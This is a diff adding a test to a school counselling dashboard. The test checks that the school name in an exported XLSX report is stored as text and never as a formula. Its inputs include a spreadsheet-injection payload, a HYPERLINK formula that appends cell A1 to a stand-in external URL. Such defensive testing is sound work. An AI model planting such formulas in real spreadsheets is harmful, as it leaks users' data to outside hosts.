@@ -33,6 +33,7 @@ from cyberbk.dashboard import reports
 from cyberbk.dashboard import targets
 from cyberbk.extensions import db
 from cyberbk.outreach.models import ServiceComponent
+from cyberbk.school.services import get_settings
 from cyberbk.outreach.models import ServicePlan
 from cyberbk.problembox.models import ProblemMessage
 from cyberbk.problembox.models import ProblemReport
@@ -337,6 +338,22 @@ def test_xlsx_holds_the_counts_and_is_audited(client, auth, service_data):
     entry = db.session.scalar(sa.select(AuditEntry).where(AuditEntry.action == "export"))
     assert (entry.target_type, entry.target_id, entry.actor_id) == \
         ("service_report", "2025-08", service_data["counselor"].id)
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("https://contoh.id/?"&A1,"Klik")', "+62 812",
+                                  "-1+1", "@SUM(A1)", "SMP Negeri 1"])
+def test_the_school_name_goes_into_the_xlsx_as_text_never_a_formula(client, auth, service_data,
+                                                                    name):
+    get_settings().name = name
+    db.session.commit()
+    auth.login("guru.a")
+    book = load_workbook(io.BytesIO(client.get("/bk/laporan.xlsx?periode=2025-08").data))
+    cell = book.worksheets[0]["A2"]
+    assert (cell.value, cell.data_type) == (name, "s")
+    assert cell.quotePrefix == (name[0] in "=+-@")
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            assert all(cell.data_type in ("s", "n") for cell in row if cell.value is not None)
 
 
 # The programme.
